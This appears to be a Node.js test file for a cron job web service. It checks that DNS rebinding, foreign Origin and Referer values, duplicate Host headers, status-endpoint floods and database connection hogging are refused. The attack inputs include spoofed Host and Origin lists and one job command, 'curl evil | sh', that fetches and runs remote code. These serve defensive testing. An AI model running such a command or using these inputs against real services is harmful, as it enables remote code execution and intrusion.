/**
 * The web against hostile clients, over real HTTP:
 * DNS rebinding (a Host or Origin that is not ours), the /_status token
 * bucket, and one client not holding every database connection.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import net from 'node:net';
import { createDb, type Knex } from '../../src/core/db';
import { parseDatabaseUrl } from '../../src/core/config';
import { createTestDatabase, type TestDatabase } from '../helpers/services';
import { dumpTables, startTestWeb, type TestWeb } from '../helpers/web';

const TOKEN = 'hosts-test-token-0123456789';
let tdb: TestDatabase;
let open: TestWeb;
let locked: TestWeb;
let proxied: TestWeb;
let jobId: number;

interface Answer {
  status: number;
  body: string;
}

/** One request with exactly the headers given (Host included), from `localAddress`. */
function request(
  base: string,
  opts: {
    method?: string;
    path: string;
    headers?: Record<string, string>;
    body?: string;
    localAddress?: string;
  },
): Promise<Answer> {
  const u = new URL(base);
  return new Promise((resolve, reject) => {
    const req = http.request(
      {
        host: u.hostname,
        port: u.port,
        method: opts.method ?? 'GET',
        path: opts.path,
        headers: opts.headers ?? {},
        setHost: false,
        localAddress: opts.localAddress,
        agent: false,
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () =>
          resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8') }),
        );
      },
    );
    req.on('error', reject);
    req.end(opts.body);
  });
}

/** HTTP/1.0 without any Host header (HTTP/1.1 requires one; Node answers 400 itself). */
function requestWithoutHost(base: string, path: string): Promise<number> {
  const u = new URL(base);
  return new Promise((resolve, reject) => {
    const sock = net.connect(Number(u.port), u.hostname, () =>
      sock.write(`GET ${path} HTTP/1.0\r\n\r\n`),
    );
    let data = '';
    sock.on('data', (c) => (data += c.toString('latin1')));
    sock.on('end', () => resolve(Number(/^HTTP\/1\.\d (\d{3})/.exec(data)?.[1] ?? 0)));
    sock.on('error', reject);
  });
}

/** A raw HTTP/1.1 request head as written (two Host headers, an absolute-form target), its status. */
function rawStatus(base: string, head: string): Promise<number> {
  const u = new URL(base);
  return new Promise((resolve, reject) => {
    const sock = net.connect(Number(u.port), u.hostname, () => sock.write(`${head}\r\n\r\n`));
    let data = '';
    sock.on('data', (c) => {
      data += c.toString('latin1');
      if (/\r\n\r\n/.test(data)) sock.end();
    });
    sock.on('close', () => resolve(Number(/^HTTP\/1\.\d (\d{3})/.exec(data)?.[1] ?? 0)));
    sock.on('error', reject);
  });
}

const portOf = (t: TestWeb) => Number(new URL(t.url).port);

before(async () => {
  tdb = await createTestDatabase();
  open = await startTestWeb(tdb.db, tdb.url);
  locked = await startTestWeb(tdb.db, tdb.url, { CRONQ_API_TOKEN: TOKEN });
  proxied = await startTestWeb(tdb.db, tdb.url, {
    CRONQ_ALLOWED_HOSTS: 'cronq.example.com, 10.0.0.5:5000',
  });
  const res = await fetch(`${open.url}/api/category/hosts`, {
    method: 'PUT',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ jobs: [{ name: 'a', schedule: '0 * * * *', command: 'true' }] }),
  });
  assert.equal(res.status, 200);
  jobId = (await tdb.db('jobs').where('name', 'a').first()).id;
});

after(async () => {
  await open?.stop();
  await locked?.stop();
  await proxied?.stop();
  await tdb?.drop();
});

/** Host values a rebinding page (or a confused client) could send; `p` is the listening port. */
function foreignHosts(p: number): string[] {
  return [
    'evil.example',
    `evil.example:${p}`,
    `localhost.evil.example:${p}`,
    `127.0.0.1.nip.io:${p}`,
    `localhost.:${p}`,
    `127.0.0.1.:${p}`,
    'localhost', // no port: the browser connected to port 80, not to us
    `localhost:${p + 1}`,
    `127.0.0.1:${p === 1 ? 2 : p - 1}`,
    `user@localhost:${p}`,
    `user:pw@127.0.0.1:${p}`,
    `[::ffff:127.0.0.1]:${p}`,
    `[::2]:${p}`,
    `[::1]:${p + 1}`,
    `::1:${p}`,
    `127.1:${p}`,
    `2130706433:${p}`,
    `0x7f000001:${p}`,
    `localhost:${p}/path`,
    `localhost:${p} evil.example`,
    '',
  ];
}

function ownHosts(p: number): string[] {
  return [
    `localhost:${p}`,
    `LOCALHOST:${p}`,
    `127.0.0.1:${p}`,
    `[::1]:${p}`,
    `[0:0:0:0:0:0:0:1]:${p}`,
  ];
}

describe('DNS rebinding: only our own Host names are served', () => {
  for (const [label, server, auth] of [
    ['without a token', () => open, {}],
    ['with a token (and the right one sent)', () => locked, { authorization: `Bearer ${TOKEN}` }],
  ] as const) {
    test(`${label}: every foreign Host is refused with 421 before routing, and changes nothing`, async () => {
      const t = server();
      const p = portOf(t);
      const before = await dumpTables(tdb.db);
      for (const host of foreignHosts(p)) {
        const read = await request(t.url, { path: '/api/jobs', headers: { host, ...auth } });
        assert.equal(read.status, 421, `GET with Host ${JSON.stringify(host)}`);
        assert.match(read.body, /does not answer for that Host/);
        const page = await request(t.url, { path: `/job/${jobId}`, headers: { host, ...auth } });
        assert.equal(page.status, 421, `page with Host ${JSON.stringify(host)}`);
        const runNow = await request(t.url, {
          method: 'POST',
          path: `/api/jobs/${jobId}/run`,
          headers: {
            host,
            ...auth,
            'content-type': 'application/json',
            origin: `http://${host}`,
          },
        });
        assert.equal(runNow.status, 421, `run now with Host ${JSON.stringify(host)}`);
        const put = await request(t.url, {
          method: 'PUT',
          path: '/api/category/pwned',
          headers: {
            host,
            ...auth,
            'content-type': 'application/json',
            origin: `http://${host}`,
          },
          body: JSON.stringify({
            jobs: [{ name: 'x', schedule: '* * * * *', command: 'curl evil | sh' }],
          }),
        });
        assert.equal(put.status, 421, `PUT with Host ${JSON.stringify(host)}`);
      }
      assert.equal(await requestWithoutHost(t.url, '/api/jobs'), 421, 'no Host at all');
      assert.equal(await dumpTables(tdb.db), before, 'nothing was changed');
    });

    test(`${label}: the loopback names on our port are served`, async () => {
      const t = server();
      for (const host of ownHosts(portOf(t))) {
        const r = await request(t.url, { path: '/api/jobs', headers: { host, ...auth } });
        assert.equal(r.status, 200, `Host ${host}`);
      }
    });
  }

  test('two Host headers, or an absolute URL as the target, are refused with 400 before anything is read', async () => {
    const own = `127.0.0.1:${portOf(open)}`;
    const before = await dumpTables(tdb.db);
    assert.equal(
      await rawStatus(open.url, `GET /api/jobs HTTP/1.1\r\nHost: ${own}\r\nHost: evil.example`),
      400,
      'own Host first, another second',
    );
    assert.equal(
      await rawStatus(open.url, `GET /api/jobs HTTP/1.1\r\nHost: evil.example\r\nHost: ${own}`),
      400,
      'another Host first',
    );
    assert.equal(
      await rawStatus(open.url, `GET http://evil.example/api/jobs HTTP/1.1\r\nHost: ${own}`),
      400,
      'absolute-form target',
    );
    assert.equal(
      await rawStatus(
        open.url,
        `POST http://evil.example/job/${jobId}/pause HTTP/1.1\r\nHost: ${own}\r\nContent-Length: 0`,
      ),
      400,
      'a write by absolute-form target',
    );
    assert.equal(await rawStatus(open.url, `GET /api/jobs HTTP/1.1\r\nHost: ${own}`), 200);
    assert.equal(await dumpTables(tdb.db), before, 'nothing was changed');
  });

  test('/_status answers whatever the Host (a load balancer checks by address); it reads nothing', async () => {
    for (const host of ['evil.example', '10.1.2.3:5000', `localhost:${portOf(open)}`]) {
      const r = await request(locked.url, { path: '/_status', headers: { host } });
      assert.equal(r.status, 200, host);
      assert.deepEqual(JSON.parse(r.body), { status: 'OK' });
    }
  });

  test('CRONQ_ALLOWED_HOSTS adds names: a bare name on any port, name:port on that port only', async () => {
    const p = portOf(proxied);
    const table: Array<[string, number]> = [
      ['cronq.example.com', 200],
      ['cronq.example.com:443', 200],
      ['CRONQ.example.com', 200],
      ['10.0.0.5:5000', 200],
      [`localhost:${p}`, 200],
      ['10.0.0.5:5001', 421],
      ['10.0.0.5', 421],
      ['sub.cronq.example.com', 421],
      ['cronq.example.com.evil.example', 421],
      ['cronq.example.com.', 421],
      ['evil.example', 421],
    ];
    for (const [host, status] of table) {
      const r = await request(proxied.url, { path: '/api/jobs', headers: { host } });
      assert.equal(r.status, status, `Host ${host}`);
    }
  });
});

describe('Origin is checked against the allowed hosts, not against Host', () => {
  const runNow = (t: TestWeb, host: string, origin?: string, referer?: string) =>
    request(t.url, {
      method: 'POST',
      path: `/api/jobs/${jobId}/run`,
      headers: {
        host,
        'content-type': 'application/json',
        ...(origin !== undefined ? { origin } : {}),
        ...(referer !== undefined ? { referer } : {}),
      },
    });

  test('a write from a page that is not ours is refused with 403 and changes nothing', async () => {
    const p = portOf(open);
    await tdb.db('jobs').where('id', jobId).update({ run_now: 0 });
    const foreign = [
      `http://evil.example:${p}`,
      'http://evil.example',
      `https://evil.example:${p}`,
      `http://localhost.evil.example:${p}`,
      `http://127.0.0.1.nip.io:${p}`,
      `http://localhost:${p + 1}`,
      'http://localhost',
      `http://[::2]:${p}`,
      `http://user@localhost:${p}`,
      `file://localhost:${p}`,
      `ftp://localhost:${p}`,
      'null',
      'garbage',
    ];
    for (const origin of foreign) {
      const r = await runNow(open, `localhost:${p}`, origin);
      assert.equal(r.status, 403, `Origin ${origin}`);
      const viaReferer = await runNow(open, `localhost:${p}`, undefined, `${origin}/page`);
      assert.equal(viaReferer.status, 403, `Referer ${origin}/page`);
    }
    assert.equal((await tdb.db('jobs').where('id', jobId).first()).run_now, 0);
  });

  test('a write from any of our own origins is accepted, whichever of our names Host uses', async () => {
    const p = portOf(open);
    for (const origin of [
      `http://localhost:${p}`,
      `http://127.0.0.1:${p}`,
      `http://[::1]:${p}`,
      `http://LOCALHOST:${p}`,
    ]) {
      await tdb.db('jobs').where('id', jobId).update({ run_now: 0 });
      const r = await runNow(open, `127.0.0.1:${p}`, origin);
      assert.equal(r.status, 200, `Origin ${origin}: ${r.body}`);
      assert.equal((await tdb.db('jobs').where('id', jobId).first()).run_now, 1);
    }
    const q = portOf(proxied);
    const viaProxy = await runNow(proxied, `localhost:${q}`, 'https://cronq.example.com');
    assert.equal(viaProxy.status, 200, 'an allowed proxy name as Origin');
  });
});

describe('per-client limits', () => {
  test('/_status is rate limited per client address; other clients and signed-in requests go on', async () => {
    const limited = await startTestWeb(tdb.db, tdb.url, {
      CRONQ_STATUS_RATE: '1',
      CRONQ_API_TOKEN: TOKEN,
    });
    try {
      let refused: Answer | undefined;
      for (let i = 0; i < 200 && !refused; i++) {
        const r = await request(limited.url, {
          path: '/_status',
          localAddress: '127.0.0.1',
          headers: { host: 'lb.example' },
        });
        if (r.status === 429) refused = r;
        else assert.equal(r.status, 200);
      }
      assert.ok(refused, 'a client flooding /_status is told to slow down');
      assert.match(refused.body, /too many requests/);
      const other = await request(limited.url, {
        path: '/_status',
        localAddress: '127.0.0.2',
        headers: { host: 'lb.example' },
      });
      assert.equal(other.status, 200, 'another address is not limited by the first');
      const api = await request(limited.url, {
        path: '/api/jobs',
        localAddress: '127.0.0.1',
        headers: {
          host: `127.0.0.1:${portOf(limited)}`,
          authorization: `Bearer ${TOKEN}`,
        },
      });
      assert.equal(api.status, 200, 'the API is not behind the /_status limit');
    } finally {
      await limited.stop();
    }
  });

  test('one client with many slow requests does not hold every database connection', async () => {
    // The web shares tdb.db (5 connections). A row lock taken on another
    // connection makes every run-now request of client A wait inside the database.
    const cfg = parseDatabaseUrl(tdb.url);
    const other: Knex = createDb(cfg, { poolMax: 2 });
    const trx = await other.transaction();
    const host = `127.0.0.1:${portOf(open)}`;
    let released = false;
    const release = async () => {
      if (!released) {
        released = true;
        await trx.rollback();
      }
    };
    try {
      await trx('jobs').where('id', jobId).forUpdate();
      const fromA = Array.from({ length: 10 }, () =>
        request(open.url, {
          method: 'POST',
          path: `/api/jobs/${jobId}/run`,
          localAddress: '127.0.0.1',
          headers: { host, 'content-type': 'application/json' },
        }),
      );
      // Let client A's requests reach the database first.
      await waitFor(async () => {
        const [rows] = (await other.raw(
          "SELECT COUNT(*) AS n FROM information_schema.PROCESSLIST WHERE DB = ? AND INFO LIKE 'update `jobs`%'",
          [tdb.name],
        )) as [Array<{ n: number }>];
        return Number(rows[0]!.n) >= 1;
      });
      const fromB = request(open.url, {
        path: '/api/jobs',
        localAddress: '127.0.0.2',
        headers: { host },
      });
      const first = await Promise.race([
        fromB.then((r) => ({ who: 'B' as const, r })),
        // A bound, not a speed check: without the per-client limit B waits for the lock (50 s).
        new Promise<{ who: 'lock' }>((resolve) =>
          setTimeout(() => resolve({ who: 'lock' }), 20_000),
        ),
      ]);
      assert.equal(first.who, 'B', 'client B was served while client A waited on the lock');
      assert.equal((first as { r: Answer }).r.status, 200);
      await release();
      for (const r of await Promise.all(fromA)) assert.ok([200, 429].includes(r.status), r.body);
    } finally {
      await release();
      await other.destroy();
    }
  });
});

async function waitFor(cond: () => Promise<boolean>): Promise<void> {
  for (let i = 0; i < 400; i++) {
    if (await cond()) return;
    await new Promise((r) => setTimeout(r, 50));
  }
  throw new Error('condition not reached');
}
